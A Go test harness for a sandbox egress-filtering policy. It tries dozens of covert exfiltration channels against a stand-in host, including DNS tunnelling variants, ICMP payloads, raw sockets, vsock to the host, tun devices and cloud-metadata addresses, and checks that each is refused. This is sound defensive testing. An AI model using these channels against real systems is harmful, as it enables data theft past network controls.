package main

import (
	"fmt"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"glasshouse/policy/egress"
	"glasshouse/policy/egress/egresstest"
)

const evil = egresstest.Evil

// sockets returns attempts to send data by other means than TCP over IPv4.
func sockets() []Attempt {
	const refused = "type:syscall name:socket ret:<0"
	hello := string(egresstest.Hello("dns.evil.example"))
	mapped := netip.AddrPortFrom(netip.AddrFrom16(netip.MustParseAddr(evil).As16()), 80)
	all := []Attempt{
		{Name: "DNS over TLS", Reasons: reasons(egress.ReasonHost), Host: "dns.evil.example", try: say("tcp", evil+":853", hello)},
		{Name: "DNS over HTTPS by name", Reasons: reasons(egress.ReasonHost), Host: "dns.evil.example", try: say("tcp", evil+":443", hello)},
		{Name: "DNS over HTTPS by address", Reasons: reasons(egress.ReasonName, egress.ReasonHost), Host: evil, try: say("tcp", evil+":443", string(egresstest.Hello("")))},
		{Name: "DNS over QUIC", Packet: true, Port: 853, try: say("udp", evil+":853", hello)},
		{Name: "DNS in pieces", Reasons: reasons(egress.ReasonMalformed, egress.ReasonHost), try: say("udp", evil+":53", question("evil.example.")+strings.Repeat("x", 4000))},
		{Name: "DNS that is an answer", Reasons: reasons(egress.ReasonMalformed), Silent: true, try: briefly("udp", evil+":53", "\x00\x01\x80\x00"+question("evil.example.")[4:])},
		{Name: "DNS that is none", Reasons: reasons(egress.ReasonMalformed), Silent: true, try: briefly("udp", evil+":53", "leak")},
		{Name: "DNS that is none, by TCP", Reasons: reasons(egress.ReasonMalformed), try: say("tcp", evil+":53", "\x00\x04leak")},
		{Name: "DNS by TCP that is HTTP", Reasons: reasons(egress.ReasonMalformed), Silent: true, try: briefly("tcp", evil+":53", get("evil.example")+strings.Repeat("x", 1<<15))},
		{Name: "the time", Packet: true, Port: 123, try: say("udp", evil+":123", "\x1b"+strings.Repeat("\x00", 47))},
		{Name: "a large datagram", Packet: true, Port: 9999, try: say("udp", evil+":9999", strings.Repeat("\x00\x35", 10000))},
		{Name: "UDP to the gateway", Packet: true, Port: 99, try: say("udp", egresstest.Gateway+":99", "leak")},
		{Name: "UDP to many in the neighbourhood", Packet: true, Port: 5353, Silent: true, try: briefly("udp", "224.0.0.251:5353", question("evil.example."))},
		{Name: "UDP to all in the neighbourhood", Packet: true, Port: 67, Silent: true, try: raw(unix.AF_INET, unix.SOCK_DGRAM, 0, netip.MustParseAddrPort("255.255.255.255:67"), "leak")},
		{Name: "UDP-Lite", Packet: true, Log: refused, try: raw(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE, netip.MustParseAddrPort(evil+":80"), "leak")},
		{Name: "SCTP", Packet: true, Log: refused, try: raw(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP, netip.MustParseAddrPort(evil+":80"), "leak")},
		{Name: "DCCP", Packet: true, Log: refused, try: raw(unix.AF_INET, 6, 33, netip.MustParseAddrPort(evil+":80"), "leak")},
		{Name: "TCP over many paths", Reasons: reasons(egress.ReasonName, egress.ReasonHost), Log: refused, try: raw(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP, netip.MustParseAddrPort(evil+":80"), get("evil.example"))},
		{Name: "TCP with data before it is connected", Reasons: reasons(egress.ReasonHost), Host: "evil.example", try: fast},
		{Name: "IPv4 written as IPv6, TCP", Reasons: reasons(egress.ReasonHost), Host: "evil.example", try: raw(unix.AF_INET6, unix.SOCK_STREAM, 0, mapped, get("evil.example"))},
		{Name: "IPv4 written as IPv6, UDP", Packet: true, Port: 999, try: raw(unix.AF_INET6, unix.SOCK_DGRAM, 0, netip.AddrPortFrom(mapped.Addr(), 999), "leak")},
		{Name: "ICMP with something in it", Packet: true, Log: refused, try: raw(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, netip.MustParseAddrPort(evil+":0"), "\x08\x00\x00\x00\x00\x01\x00\x01leak")},
		{Name: "packets with headers of one's own", Packet: true, Log: refused, try: raw(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, netip.MustParseAddrPort(evil+":0"), "leak")},
		{Name: "frames", Log: refused, try: frames},
		{Name: "the host by vsock", Log: refused, try: vsock},
		{Name: "a tunnel's device", Log: "type:syscall name:openat,mknodat ret:<0", try: tunnel},
	}
	for name, addr := range map[string]string{
		"IPv6 to an IPv4 address by 6to4":  "[2002:c633:6408::1]:80",
		"IPv6 to an IPv4 address by NAT64": "[64:ff9b::c633:6408]:80",
		"IPv6 to the metadata service":     "[fd00:ec2::254]:80",
	} {
		all = append(all, Attempt{Name: name, Log: "type:syscall name:socket,connect ret:<0", try: raw(unix.AF_INET6, unix.SOCK_STREAM, 0, netip.MustParseAddrPort(addr), get("evil.example"))})
	}
	return all
}

// briefly waits only a short time for a response that is not expected.
func briefly(network, address string, what ...string) func() (string, error) {
	return func() (string, error) { return talk(network, address, 500*time.Millisecond, what...) }
}

func question(name string) string {
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}},
	}
	b, _ := m.Pack() // packing this message cannot fail
	return string(b)
}

func sockaddr(family int, to netip.AddrPort) unix.Sockaddr {
	if family == unix.AF_INET6 {
		return &unix.SockaddrInet6{Addr: to.Addr().As16(), Port: int(to.Port())}
	}
	return &unix.SockaddrInet4{Addr: to.Addr().As4(), Port: int(to.Port())}
}

// raw creates a socket without package net, which restricts the kinds of sockets.
func raw(family, kind, proto int, to netip.AddrPort, what string) func() (string, error) {
	return func() (string, error) {
		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, proto)
		if err != nil {
			return "", fmt.Errorf("socket: %w", err)
		}
		defer unix.Close(fd)
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
		limit := unix.NsecToTimeval(int64(patience))
		if kind != unix.SOCK_STREAM {
			limit = unix.NsecToTimeval(int64(500 * time.Millisecond))
		}
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit)
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &limit)
		if err := unix.Connect(fd, sockaddr(family, to)); err != nil {
			return "", fmt.Errorf("connect: %w", err)
		}
		if _, err := unix.Write(fd, []byte(what)); err != nil {
			return "", fmt.Errorf("send: %w", err)
		}
		return receive(fd)
	}
}

func receive(fd int) (string, error) {
	b := make([]byte, 1<<16)
	n, err := unix.Read(fd, b)
	if err == unix.EAGAIN {
		return "", os.ErrDeadlineExceeded
	}
	return string(b[:max(n, 0)]), err
}

// fast sends data with the first packet of a connection (TCP Fast Open, RFC 7413).
func fast() (string, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	limit := unix.NsecToTimeval(int64(patience))
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit)
	to := sockaddr(unix.AF_INET, netip.MustParseAddrPort(evil+":80"))
	if err := unix.Sendto(fd, []byte(get("evil.example")), unix.MSG_FASTOPEN, to); err != nil {
		return "", err
	}
	return receive(fd)
}

// frames sends Ethernet frames below IP to the other end of the link.
func frames() (string, error) {
	const all = unix.ETH_P_ALL<<8 | unix.ETH_P_ALL>>8
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, all)
	if err != nil {
		return "", err
	}
	unix.Close(fd)
	return egresstest.Reached + "a socket for frames", nil
}

func vsock() (string, error) {
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 1024}); err != nil {
		return "", err
	}
	return egresstest.Reached + "the host by vsock", nil
}

func tunnel() (string, error) {
	unix.Mknod("/root/tun", unix.S_IFCHR|0o600, int(unix.Mkdev(10, 200)))
	var last error
	for _, path := range []string{"/dev/net/tun", "/root/tun"} {
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
			return egresstest.Reached + path, nil
		}
		last = err
	}
	return "", last
}
